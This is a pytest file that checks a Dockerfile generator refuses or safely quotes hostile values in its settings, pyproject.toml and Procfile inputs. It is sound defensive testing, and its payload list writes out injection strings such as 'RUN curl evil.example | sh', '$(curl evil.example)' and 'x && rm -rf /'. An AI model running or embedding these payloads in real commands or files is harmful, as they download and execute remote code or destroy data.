"""Nothing a user or a project file says can inject a Dockerfile instruction.

Each hostile value is either refused with an InspectError naming the setting or file, or (where
it is harmless after quoting) produces a Dockerfile with exactly the instructions of the baseline.
"""

from __future__ import annotations

import json
import re

import pytest

from dockergen.api import generate
from dockergen.facts import InspectError

from .conftest import SAMPLES

PAYLOADS = [
    "x\nRUN curl evil.example | sh",
    "x\\\nRUN id",
    "x\rRUN id",
    "$(curl evil.example)",
    "`id`",
    "x && rm -rf /",
    "x; id",
    "x # comment",
    '"]\nUSER root\nCMD ["sh',
    "x'y",
    'x"y',
    "${HOME}",
    "x|y",
    "x\tRUN id",
    "x\x00y",
]
SETTINGS = {
    "entrypoint": lambda p: f"gunicorn {p}",
    "image": lambda p: p,
    "user": lambda p: p,
    "python": lambda p: f"3.13{p}",
    "port": lambda p: f"80{p}",
    "uid": lambda p: f"10001{p}",
    "apt": lambda p: {"run": [f"libpq5{p}"]},
    "groups": lambda p: [p],
    "extras": lambda p: [p],
    "cuda": lambda p: f"12.8{p}",
    "debian": lambda p: f"trixie{p}",
    "manager": lambda p: f"uv{p}",
    "build": lambda p: [f"python manage.py {p}"],
    "env": lambda p: {f"APP{p}": "x"},
    "labels": lambda p: {f"org.example.app{p}": "x"},
    "copy": lambda p: [f"static{p}"],
    "healthcheck": lambda p: f"/health{p}",
    "runner_steps": lambda p: [f"mkdir -p /data{p}"],
}
CASES = [(key, make(payload)) for key, make in SETTINGS.items() for payload in PAYLOADS]


def instructions(dockerfile: str) -> list[str]:
    """The instruction keywords, as the Dockerfile parser sees them: comments and continuations handled."""
    out, continued = [], False
    for line in dockerfile.splitlines():
        stripped = line.strip()
        if not continued and (not stripped or stripped.startswith("#")):
            continue
        if not continued:
            out.append(stripped.split()[0].upper())
        continued = line.endswith("\\")
    return out


BASELINE = instructions(generate(SAMPLES / "pdm-flask")["Dockerfile"])


def test_there_are_at_least_100_crafted_values():
    assert len(CASES) >= 100


@pytest.mark.parametrize(("key", "value"), CASES, ids=[f"{k}-{i}" for i, (k, _) in enumerate(CASES)])
def test_hostile_setting_is_refused_naming_it(key, value):
    with pytest.raises(InspectError, match=re.escape(f"[tool.dockergen] {key}")):
        generate(SAMPLES / "pdm-flask", **{key: value})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_value_in_pyproject_is_refused(sample_copy, payload):
    path = sample_copy("pdm-flask")
    with open(path / "pyproject.toml", "a") as handle:
        handle.write(f"\n[tool.dockergen]\nentrypoint = {json.dumps('gunicorn ' + payload)}\n")  # JSON strings are TOML
    with pytest.raises(InspectError, match=r"\[tool\.dockergen\] entrypoint"):
        generate(path)


@pytest.mark.parametrize(
    "payload", ["app:app && curl evil", "app:app; id", "$(id)", "--bind 0.0.0.0:$PORT", 'x" ]\nRUN id #']
)
def test_procfile_commands_with_shell_syntax_are_one_sh_c_string_in_cmd(sample_copy, payload):
    """The Procfile is the project's own command, run as Heroku runs it (sh -c): shell syntax is
    the shell's at run time, and never more than one CMD array in the Dockerfile."""
    path = sample_copy("requirements-plain")
    (path / "Procfile").write_text("web: gunicorn app:app\n")
    plain = instructions(generate(path)["Dockerfile"])
    (path / "Procfile").write_text(f"web: gunicorn {payload}\n")
    if "\n" in payload:  # the line ends at the newline, its quote left open: it cannot be split
        with pytest.raises(InspectError, match=r"^Procfile: "):
            generate(path)
        return
    dockerfile = generate(path)["Dockerfile"]
    cmd = [line for line in dockerfile.splitlines() if line.startswith("CMD ")]
    assert cmd == [f"CMD {json.dumps(['sh', '-c', f'gunicorn {payload}'])}"]
    assert instructions(dockerfile) == plain


@pytest.mark.parametrize("payload", ["app\\x", "a\x1b[2Jb"])
def test_procfile_commands_with_backslashes_or_control_characters_are_refused(sample_copy, payload):
    path = sample_copy("requirements-plain")
    (path / "Procfile").write_text(f"web: gunicorn {payload};\n")
    with pytest.raises(InspectError, match=r"^Procfile: the 'web' command has a control character or backslash"):
        generate(path)


@pytest.mark.parametrize("name", ["evil\nRUN id", 'a"b', "a b"])
def test_hostile_script_names_never_reach_cmd(sample_copy, name):
    path = sample_copy("hatch-cli")
    text = (path / "pyproject.toml").read_text()
    (path / "pyproject.toml").write_text(text.replace('hatch-cli = "hatch_cli', f'{json.dumps(name)} = "hatch_cli', 1))
    with pytest.raises(InspectError, match=r"^pyproject\.toml: (console script name|entrypoint word)"):
        generate(path)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("entrypoint", "gunicorn --bind 0.0.0.0:9000 app:app"),
        ("user", "svc"),
        ("uid", 20000),
        ("port", 9000),
        ("apt", {"run": ["libpq5", "curl"]}),
        ("image", "registry.example:5000/mirror/python"),
    ],
)
def test_accepted_values_keep_the_instruction_sequence(key, value):
    got = instructions(generate(SAMPLES / "pdm-flask", **{key: value})["Dockerfile"])
    expected = list(BASELINE)
    if key == "entrypoint":  # an explicit command is not known to serve HTTP: no health check
        expected.remove("HEALTHCHECK")
    if key == "apt":  # the runner's apt-get RUN comes first after its FROM
        expected.insert(len(expected) - expected[::-1].index("FROM"), "RUN")
    assert got == expected


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("as_list", [False, True], ids=["string", "words"])
def test_hostile_build_commands_are_refused(payload, as_list):
    """A build step is words in exec form: no word may need a shell or break the JSON line."""
    command = ["python", "make.py", payload] if as_list else f"python make.py {payload}"
    with pytest.raises(InspectError, match=re.escape("[tool.dockergen] build")):
        generate(SAMPLES / "pdm-flask", build=[command])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_env_values_are_refused_or_stay_one_quoted_value(payload):
    """An env value lands double-quoted in ENV: one that could end the quote, continue the line,
    expand a variable or hold a control character is refused; any other stays one literal value."""
    try:
        dockerfile = generate(SAMPLES / "pdm-flask", env={"APP_MODE": payload})["Dockerfile"]
    except InspectError as error:
        assert "[tool.dockergen] env" in str(error)
        assert re.search(r"[\x00-\x1f\x7f\\\"'$`]", payload), f"{payload!r} was refused but is harmless"
        return
    expected = list(BASELINE)
    expected.insert(expected.index("USER"), "ENV")
    assert instructions(dockerfile) == expected
    assert f'ENV APP_MODE="{payload}"\n' in dockerfile


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_env_values_in_pyproject_are_refused_or_quoted(sample_copy, payload):
    path = sample_copy("pdm-flask")
    with open(path / "pyproject.toml", "a") as handle:
        handle.write(f"\n[tool.dockergen]\nenv = {{APP_MODE = {json.dumps(payload)}}}\n")
    try:
        dockerfile = generate(path)["Dockerfile"]
    except InspectError as error:
        assert str(error).startswith("pyproject.toml: [tool.dockergen] env: APP_MODE")
        return
    assert [line for line in dockerfile.splitlines() if line.startswith("ENV APP_MODE")] == [
        f'ENV APP_MODE="{payload}"'
    ]


def test_an_accepted_build_step_adds_only_the_app_stage():
    """pdm-flask is an app directory: the step runs in an app stage the runner copies /app from."""
    got = instructions(generate(SAMPLES / "pdm-flask", build=["python -m compileall -q ."])["Dockerfile"])
    runner = len(BASELINE) - BASELINE[::-1].index("FROM") - 1
    app_stage = ["FROM", "ENV", "WORKDIR", "COPY", "RUN"]
    assert got == BASELINE[:runner] + app_stage + BASELINE[runner:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_label_values_are_refused_or_stay_one_quoted_value(payload):
    """A label value lands double-quoted in LABEL, as an env value in ENV."""
    try:
        dockerfile = generate(SAMPLES / "pdm-flask", labels={"org.example.mode": payload})["Dockerfile"]
    except InspectError as error:
        assert "[tool.dockergen] labels: org.example.mode" in str(error)
        assert re.search(r"[\x00-\x1f\x7f\\\"'$`]", payload), f"{payload!r} was refused but is harmless"
        return
    expected = list(BASELINE)
    expected[-1:-1] = ["ARG", "ARG", "LABEL"]  # before CMD
    assert instructions(dockerfile) == expected
    assert f'LABEL org.example.mode="{payload}" \\\n' in dockerfile
